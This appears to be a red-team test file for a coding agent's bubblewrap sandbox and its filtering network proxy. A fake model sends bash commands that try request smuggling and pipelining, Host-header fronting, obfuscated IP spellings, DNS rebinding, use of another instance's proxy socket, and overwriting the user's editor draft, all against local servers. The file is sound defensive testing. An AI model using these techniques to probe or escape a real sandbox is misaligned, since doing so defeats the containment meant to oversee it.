/**
 * Red team: the sandbox's network allow-list and what else a sandboxed command can reach,
 * attacked through the built binary (bubblewrap, the fake model) with local servers for
 * an "allowed" host (`localhost:<port>`, a name the proxy resolves) and an "evil" one
 * (127.0.0.1 at another port, never listed). A command speaks raw HTTP to its relay with
 * bash's /dev/tcp: requests pipelined behind an allowed one, a Host header that names
 * another site, other spellings of a refused address (decimal, octal, IPv6, trailing dot,
 * userinfo, percent-encoding), a listed name that resolves to this machine (DNS rebinding),
 * the host's own loopback services, UDP, abstract sockets, another xcsh's proxy socket, and a
 * chain through the network's own proxy that keeps connections alive. Also: an untrusted
 * project's retry settings, which spend the user's key, and the Ctrl+G draft while a
 * sandboxed command runs (in tmux).
 * No network: every server is on loopback. Skipped, saying why, where bwrap cannot run.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import net from "node:net";
import { join } from "node:path";
import { ensureBinary } from "../support/cli.ts";
import type { ExtensionFixture } from "../support/extensions.ts";
import { textOf, type RpcProcess } from "../support/rpc-harness.ts";
import { bwrapWorks, createSandboxFixture } from "./sandbox-fixture.ts";
import { editorText, withPane } from "../modes/interactive/fixture.ts";

const canSandbox = bwrapWorks();
const curl = Bun.which("curl");
if (!canSandbox || !curl) console.warn("test/sandbox/red-network.test.ts: needs bubblewrap and curl; sandbox network attacks skipped");

/**
 * A name other than localhost that this machine's /etc/hosts maps to a loopback address (the
 * machine's own name often is): what a DNS answer the attacker controls would give. None: skipped.
 */
const loopbackName = (() => {
  try {
    for (const line of readFileSync("/etc/hosts", "utf8").split("\n")) {
      const [address = "", ...names] = line.replace(/#.*/, "").trim().split(/\s+/);
      if (!/^127\./.test(address)) continue;
      const name = names.find((entry) => /^[a-z0-9][a-z0-9.-]*$/i.test(entry) && entry !== "localhost" && !entry.endsWith(".localhost"));
      if (name) return { name: name.toLowerCase(), address };
    }
  } catch {
    // No /etc/hosts: nothing to try.
  }
  return undefined;
})();
if (!loopbackName) console.warn("test/sandbox/red-network.test.ts: /etc/hosts maps no name but localhost to 127.x; the rebinding test is skipped");

let fixture: ExtensionFixture;
let base: string;
let allowed: ReturnType<typeof Bun.serve>;
let evil: ReturnType<typeof Bun.serve>;
/** Every request the evil server got: it must stay empty. */
const evilSaw: string[] = [];
let started: RpcProcess[] = [];

beforeAll(() => {
  ({ base, fixture } = createSandboxFixture("xcsh-rednet-test-"));
  allowed = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch: (request) => new Response(`allowed saw ${new URL(request.url).pathname} host=${request.headers.get("host")}`),
  });
  evil = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch: (request) => {
      evilSaw.push(new URL(request.url).pathname);
      return new Response("evil served");
    },
  });
});
afterEach(() => {
  for (const rpc of started) rpc.kill();
  started = [];
  fixture.server.clearScript();
  fixture.home.writeSettings({});
  rmSync(join(fixture.cwd, ".xcsh"), { recursive: true, force: true });
});
afterAll(async () => {
  allowed?.stop(true);
  evil?.stop(true);
  await fixture?.cleanup();
  rmSync(base, { recursive: true, force: true });
});

const start = (args: string[] = []) => {
  const rpc = fixture.start(["--model", "fake/fake-model", "--no-session", ...args]);
  started.push(rpc);
  return rpc;
};

/** The model runs each command with the bash tool; their results as the model read them. */
async function outputs(rpc: RpcProcess, commands: string[]): Promise<string[]> {
  fixture.server.enqueue(...commands.map((command) => ({ content: [{ type: "toolCall" as const, name: "bash", arguments: { command } }] })), { content: [{ type: "text", text: "done" }] });
  const from = rpc.mark();
  expect((await rpc.request({ type: "prompt", message: "go" })).success).toBe(true);
  await rpc.waitForEvent("agent_settled", () => true, 60_000, from);
  const messages = fixture.server.requests.at(-1)!.body.messages.filter((message: { role: string }) => message.role === "tool");
  return messages.slice(-commands.length).map((message: { content: unknown }) => textOf(message));
}

/**
 * A bash command that sends `bytes` on one connection to the sandbox's relay (the proxy)
 * and prints what comes back, CR removed. base64 carries the bytes as they are.
 */
function rawToProxy(bytes: string, waitSeconds = 5): string {
  const encoded = Buffer.from(bytes, "latin1").toString("base64");
  return `exec 3<>/dev/tcp/127.0.0.1/\${HTTP_PROXY##*:} && echo ${encoded} | base64 -d >&3 && timeout ${waitSeconds} cat <&3 | tr -d '\\r'`;
}

/** The first line of the proxy's answer to `bytes`, after `label`: one line per probe. */
function probe(label: string, bytes: string): string {
  const encoded = Buffer.from(bytes, "latin1").toString("base64");
  return `exec 3<>/dev/tcp/127.0.0.1/\${HTTP_PROXY##*:} && echo ${encoded} | base64 -d >&3 && IFS= read -r line <&3; echo "${label}: \${line%$'\\r'}"; exec 3<&-`;
}

describe.skipIf(!canSandbox || !curl)("red team: sandbox.network's filtering proxy", () => {
  test("one connection carries one request: what is pipelined behind an allowed request, or reused after it, reaches no other host; the Host header sent is the URL's", async () => {
    const port = allowed.port!;
    const bad = `127.0.0.1:${evil.port}`;
    fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: [`localhost:${port}`] } });
    const rpc = start();
    const [pipelined, fronted, reused, tunnelled] = await outputs(rpc, [
      rawToProxy(`GET http://localhost:${port}/first HTTP/1.1\r\nHost: localhost:${port}\r\n\r\nGET http://${bad}/pipelined HTTP/1.1\r\nHost: ${bad}\r\n\r\n`),
      // Domain fronting over plain http: the allowed address, another site's name.
      rawToProxy(`GET http://localhost:${port}/fronted HTTP/1.1\r\nHost: ${bad}\r\nhost: evil.example\r\n\r\n`),
      // curl keeps the proxy connection for the second URL when it can.
      `curl -sS http://localhost:${port}/a http://${bad}/reused 2>&1; true`,
      // Inside an allowed tunnel the bytes go to the allowed address only (what the server does with a Host is its own).
      rawToProxy(`CONNECT localhost:${port} HTTP/1.1\r\n\r\nGET /tunnel HTTP/1.1\r\nHost: ${bad}\r\nConnection: close\r\n\r\n`),
    ]);
    expect(pipelined).toContain(`allowed saw /first host=localhost:${port}`);
    expect(pipelined).not.toContain("evil served");
    expect(fronted).toContain(`allowed saw /fronted host=localhost:${port}`);
    expect(reused).toContain(`allowed saw /a`);
    expect(reused).toContain(`${bad} is not an allowed host`);
    expect(tunnelled).toContain("200 Connection Established");
    expect(tunnelled).toContain(`allowed saw /tunnel host=${bad}`);
    expect(evilSaw).toEqual([]);
    expect(await rpc.close()).toBe(0);
  }, 90_000);

  test("a refused address is refused however it is spelled; an allowed name is served however its case or trailing dot", async () => {
    const port = allowed.port!;
    const other = evil.port!;
    fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: [`localhost:${port}`, `*.localhost:${port}`] } });
    const rpc = start();
    const connect = (authority: string) => `CONNECT ${authority} HTTP/1.1\r\n\r\n`;
    const get = (url: string) => `GET ${url} HTTP/1.1\r\nHost: x\r\n\r\n`;
    const refused: Array<[string, string]> = [
      ["ipv4", connect(`127.0.0.1:${other}`)],
      ["ipv6", connect(`[::1]:${other}`)],
      ["mapped", connect(`[::ffff:127.0.0.1]:${other}`)],
      ["decimal", connect(`2130706433:${other}`)],
      ["octal", connect(`0177.0.0.1:${other}`)],
      ["hex", connect(`0x7f.1:${other}`)],
      ["short", connect(`127.1:${other}`)],
      ["otherport", connect(`localhost:${other}`)],
      ["nul", connect(`127.0.0.1\0.localhost:${port}`)],
      ["space", connect(`127.0.0.1\t.localhost:${port}`)],
      ["userinfo", get(`http://localhost:${port}@127.0.0.1:${other}/`)],
      ["backslash", get(`http://127.0.0.1:${other}\\@localhost:${port}/`)],
      ["percent", get(`http://%6c%6fcalhost:${other}/`)],
      ["selfport", connect(`127.0.0.1:${new URL(fixture.server.url).port}`)],
    ];
    const served: Array<[string, string]> = [
      ["case", connect(`LOCALHOST:${port}`)],
      ["dot", connect(`localhost.:${port}`)],
      ["below", connect(`a.b.localhost:${port}`)],
      ["percent-allowed", get(`http://%6c%6fcalhost:${port}/`)],
    ];
    const [answers] = await outputs(rpc, [[...refused, ...served].map(([label, bytes]) => probe(label, bytes)).join("; ")]);
    const lines = Object.fromEntries(answers!.split("\n").map((line) => [line.slice(0, line.indexOf(":")), line.slice(line.indexOf(":") + 2)]));
    for (const [label] of refused) expect({ label, answer: lines[label] }).toEqual({ label, answer: expect.stringMatching(/^HTTP\/1\.1 40[03] /) });
    for (const [label] of served) expect({ label, answer: lines[label] }).toEqual({ label, answer: expect.stringMatching(/^HTTP\/1\.1 200 /) });
    expect(evilSaw).toEqual([]);
    expect(await rpc.close()).toBe(0);
  }, 90_000);

  test.skipIf(!loopbackName)("a listed name that resolves to this machine (DNS rebinding) is refused unless its address is listed too", async () => {
    const port = allowed.port!;
    const { name, address } = loopbackName!;
    fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: [`${name}:${port}`] } });
    const rpc = start();
    const [plain, tunnelled] = await outputs(rpc, [`curl -sS http://${name}:${port}/rebound 2>&1; true`, `curl -sS -p http://${name}:${port}/rebound 2>&1; true`]);
    for (const output of [plain, tunnelled]) {
      expect(output).not.toContain("allowed saw");
      expect(output).toContain(`${name} resolves to ${address}, an address of this machine`);
    }
    expect(await rpc.close()).toBe(0);
    fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: [`${name}:${port}`, `${address}:${port}`] } });
    const listed = start();
    expect((await outputs(listed, [`curl -sS http://${name}:${port}/listed`]))[0]).toContain("allowed saw /listed");
    expect(await listed.close()).toBe(0);
  }, 90_000);

  test("the host's loopback services, UDP and abstract sockets are out of reach but through the list", async () => {
    const llmPort = new URL(fixture.server.url).port;
    const datagrams: string[] = [];
    const udp = await Bun.udpSocket({ hostname: "127.0.0.1", socket: { data: (_socket, data) => void datagrams.push(Buffer.from(data).toString()) } });
    const abstractName = `\0xcsh-red-${process.pid}`;
    let abstractHits = 0;
    const abstract = Bun.listen({ unix: abstractName, socket: { open: () => void abstractHits++, data() {} } });
    try {
      fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: [`localhost:${allowed.port}`] } });
      const rpc = start();
      const bun = `BUN_BE_BUN=1 ${ensureBinary()}`;
      const [direct, udpSent, dns, abstractTry] = await outputs(rpc, [
        `curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:${llmPort}/ 2>&1 && echo reached || echo unreachable`,
        `echo leaked > /dev/udp/127.0.0.1/${udp.port}; echo sent`,
        `getent ahosts example.com && echo resolved || echo no-dns`,
        `${bun} -e 'await Bun.connect({ unix: "\\0xcsh-red-${process.pid}", socket: { data() {} } }).then(() => console.log("abstract-connected"), (e) => console.log("abstract-refused", e.code ?? e.message))'`,
      ]);
      expect(direct).toContain("unreachable");
      expect(udpSent).toContain("sent");
      expect(dns).toContain("no-dns");
      expect(abstractTry).toContain("abstract-refused");
      expect(abstractHits).toBe(0);
      // A datagram from the test itself arrives: the sandbox's never did.
      udp.send("control", udp.port, "127.0.0.1");
      const deadline = Date.now() + 10_000;
      while (!datagrams.includes("control") && Date.now() < deadline) await Bun.sleep(20);
      expect(datagrams).toEqual(["control"]);
      expect(await rpc.close()).toBe(0);
    } finally {
      udp.close();
      abstract.stop(true);
    }
  }, 90_000);

  test("another xcsh's proxy serves none of this xcsh's commands, even where its socket can be seen (a temp folder that is not /tmp)", async () => {
    const port = allowed.port!;
    const tmp = fixture.home.env.TMPDIR!;
    // Planted where the proxy removes a dead xcsh's folder: a link to a folder of the user's, which must survive.
    const precious = join(base, "precious");
    mkdirSync(precious, { recursive: true });
    writeFileSync(join(precious, "keep.txt"), "keep");
    const dead = Bun.spawn(["true"]);
    await dead.exited;
    symlinkSync(precious, join(tmp, `xcsh-net-${dead.pid}-planted`));
    // xcsh B: a list with the allowed host; its first command starts its proxy, in the shared temp folder.
    fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: [`localhost:${port}`] } });
    const other = start();
    expect((await outputs(other, [`curl -sS http://localhost:${port}/b`]))[0]).toContain("allowed saw /b");
    const [folder] = readdirSync(tmp).filter((name) => name.startsWith(`xcsh-net-${other.proc.pid}-`));
    const socket = join(tmp, folder!, "proxy.sock");
    expect(existsSync(socket)).toBe(true);
    expect(existsSync(join(precious, "keep.txt"))).toBe(true);
    // xcsh A: no network at all.
    fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: "deny" } });
    const rpc = start();
    const [borrowed] = await outputs(rpc, [`curl -sS --unix-socket ${socket} --request-target http://localhost:${port}/borrowed http://localhost:${port}/borrowed 2>&1; true`]);
    expect(borrowed).not.toContain("allowed saw /borrowed");
    expect(borrowed).toContain("serves only the sandboxes of the xcsh that started it");
    expect(await rpc.close()).toBe(0);
    expect(await other.close()).toBe(0);
  }, 90_000);
});

/**
 * The network's own proxy, as a naive one is: it keeps every connection alive and serves
 * each request on it in turn — a GET in absolute form answered itself, a CONNECT refused
 * with 407 (as one asking for credentials does, keeping the connection). Each request line
 * is recorded, so a test sees what reached it.
 */
function keepAliveProxy(): Promise<{ url: string; seen: string[]; close(): void }> {
  const seen: string[] = [];
  const server = net.createServer((client) => {
    let buffered = "";
    client.on("error", () => client.destroy());
    client.on("data", (bytes: Buffer) => {
      buffered += bytes.toString("latin1");
      for (let end = buffered.indexOf("\r\n\r\n"); end !== -1; end = buffered.indexOf("\r\n\r\n")) {
        const head = buffered.slice(0, end);
        const line = head.slice(0, head.indexOf("\r\n") === -1 ? undefined : head.indexOf("\r\n"));
        buffered = buffered.slice(end + 4);
        // The body as this proxy reads it: a Content-Length, or chunks up to the last one.
        const length = /\r\ncontent-length: *(\d+)/i.exec(head);
        if (length) buffered = buffered.slice(Number(length[1]));
        else if (/\r\ntransfer-encoding: *chunked/i.test(head)) buffered = buffered.slice(buffered.indexOf("\r\n0\r\n\r\n") + 7);
        seen.push(line.split(" ").slice(0, 2).join(" "));
        if (line.startsWith("CONNECT ")) client.write("HTTP/1.1 407 Proxy Authentication Required\r\nProxy-Authenticate: Basic\r\nContent-Length: 0\r\n\r\n");
        else {
          const body = `upstream served ${line.split(" ")[1]}`;
          client.write(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
        }
      }
    });
  });
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () => resolve({ url: `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`, seen, close: () => server.close() })),
  );
}

describe.skipIf(!canSandbox || !curl)("red team: sandbox.network behind the network's own proxy", () => {
  test("a request pipelined behind an allowed one, or sent on after the network's proxy refused a tunnel, never reaches that proxy", async () => {
    const upstream = await keepAliveProxy();
    // The naive upstream never closes a connection, so each probe reads until its wait ends:
    // a local answer comes at once, and two seconds keep the test from waiting 5 s on each.
    const UPSTREAM_WAIT_S = 2;
    const env = { HTTPS_PROXY: upstream.url, HTTP_PROXY: upstream.url, NO_PROXY: "127.0.0.1" };
    Object.assign(fixture.home.env, env);
    try {
      fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: ["allowed.example"] } });
      const rpc = start();
      const [pipelined, afterRefusal, withBody, chunked, ambiguous] = await outputs(rpc, [
        rawToProxy(`GET http://allowed.example/one HTTP/1.1\r\nHost: allowed.example\r\n\r\nGET http://evil.example/two HTTP/1.1\r\nHost: evil.example\r\n\r\n`, UPSTREAM_WAIT_S),
        rawToProxy(`CONNECT allowed.example:443 HTTP/1.1\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n`, UPSTREAM_WAIT_S),
        // A body of the length it declares, and a request hidden after it.
        rawToProxy(`POST http://allowed.example/post HTTP/1.1\r\nContent-Length: 5\r\n\r\nhelloGET http://evil.example/three HTTP/1.1\r\n\r\n`, UPSTREAM_WAIT_S),
        rawToProxy(`POST http://allowed.example/chunked HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nGET http://evil.example/four HTTP/1.1\r\n\r\n`, UPSTREAM_WAIT_S),
        // Two framings, which two parsers could read two ways: refused.
        rawToProxy(`POST http://allowed.example/both HTTP/1.1\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/five HTTP/1.1\r\n\r\n`, UPSTREAM_WAIT_S),
      ]);
      expect(pipelined).toContain("upstream served http://allowed.example/one");
      expect(afterRefusal).toContain("407 Proxy Authentication Required");
      expect(withBody).toContain("upstream served http://allowed.example/post");
      expect(chunked).toContain("upstream served http://allowed.example/chunked");
      expect(ambiguous).toContain("400 Bad Request");
      expect(upstream.seen).toEqual(["GET http://allowed.example/one", "CONNECT allowed.example:443", "POST http://allowed.example/post", "POST http://allowed.example/chunked"]);
      expect(await rpc.close()).toBe(0);
    } finally {
      for (const name of Object.keys(env)) delete fixture.home.env[name];
      upstream.close();
    }
  }, 90_000);
});

describe("red team: an untrusted project's retry settings", () => {
  /** How many requests one prompt makes against a provider that always fails. */
  async function requestsForOnePrompt(project: Record<string, unknown> | undefined): Promise<number> {
    rmSync(join(fixture.cwd, ".xcsh"), { recursive: true, force: true });
    if (project) {
      mkdirSync(join(fixture.cwd, ".xcsh"), { recursive: true });
      writeFileSync(join(fixture.cwd, ".xcsh", "settings.json"), JSON.stringify(project));
    }
    fixture.server.clearScript();
    fixture.server.enqueue(...Array.from({ length: 20 }, () => ({ type: "error" as const, status: 503, message: "overloaded" })));
    const rpc = start(["--no-trust-project"]);
    const before = fixture.server.requests.length;
    const from = rpc.mark();
    expect((await rpc.request({ type: "prompt", message: "go" })).success).toBe(true);
    await rpc.waitForEvent("agent_settled", () => true, 60_000, from);
    const count = fixture.server.requests.length - before;
    expect(await rpc.close()).toBe(0);
    return count;
  }

  test("may retry less than the user's settings, never more, nor wait longer", async () => {
    fixture.home.writeSettings({ retry: { maxRetries: 1, baseDelayMs: 1, provider: { maxRetries: 0 } } });
    const mine = await requestsForOnePrompt(undefined);
    expect(mine).toBe(2);
    // A repository asking for more retries (the user's key pays for each) gets the user's count.
    expect(await requestsForOnePrompt({ retry: { maxRetries: 8, baseDelayMs: 1, provider: { maxRetries: 5 } } })).toBe(mine);
    // Fewer is the project's to choose.
    expect(await requestsForOnePrompt({ retry: { maxRetries: 0 } })).toBe(1);
    expect(await requestsForOnePrompt({ retry: { enabled: false } })).toBe(1);
  }, 90_000);
});


async function until(condition: () => boolean, what: string, timeoutMs = 30_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await Bun.sleep(50);
  }
}

describe.skipIf(!canSandbox)("red team: the Ctrl+G draft while a command runs", () => {
  test("a sandboxed command running meanwhile can neither find nor rewrite the draft; what the person wrote comes back", async () => {
    const scripts = mkdtempSync(join(tmpdir(), "xcsh-red-editor-"));
    const editor = join(scripts, "edit.sh");
    // A stand-in editor: says which file it got, then stays open until the test lets it go.
    writeFileSync(editor, `#!/bin/sh\necho "$1" > ${scripts}/path\ni=0; while [ ! -e ${scripts}/go ] && [ $i -lt 400 ]; do sleep 0.1; i=$((i+1)); done\n`);
    chmodSync(editor, 0o755);
    try {
      await withPane(
        async ({ fake, project, pane }) => {
          // The model's command looks for drafts where they could be and rewrites the first it finds.
          const places = ["/tmp/xcsh-edit-*/prompt.md", "${TMPDIR:-/tmp}/xcsh-edit-*/prompt.md", `${fake.home.agentDir}/drafts/*/prompt.md`].join(" ");
          // It searches until a second after the test says the editor is open (at most 30 s).
          const attack = `touch started; n=0; for i in $(seq 300); do for f in ${places}; do if [ -f "$f" ]; then printf hijacked > "$f" && echo "wrote-draft $f" && exit 0; fi; done; if [ -e editor-open ]; then n=$((n+1)); [ $n -ge 10 ] && break; fi; sleep 0.1; done; echo no-draft`;
          fake.server.enqueue({ content: [{ type: "toolCall", name: "bash", arguments: { command: attack } }] }, { content: [{ type: "text", text: "checked" }] });
          pane.type("go");
          pane.keys("Enter");
          await until(() => existsSync(join(project, "started")), "the command to start");
          pane.type("my own words");
          await pane.waitFor((screen) => editorText(screen) === "my own words");
          pane.keys("C-g");
          await until(() => existsSync(join(scripts, "path")), "the editor to open");
          writeFileSync(join(project, "editor-open"), "");
          await until(() => fake.server.requests.length >= 2, "the command to end");
          writeFileSync(join(scripts, "go"), "");
          await pane.waitFor((screen) => editorText(screen) === "my own words", 30_000);
          expect(JSON.stringify(fake.server.requests[1]!.body.messages)).toContain("no-draft");
        },
        {
          env: { EDITOR: editor, VISUAL: "" },
          before: (fake) => fake.home.writeSettings({ sandbox: { mode: "workspace-write" } }),
        },
      );
    } finally {
      rmSync(scripts, { recursive: true, force: true });
    }
  }, 120_000);
});
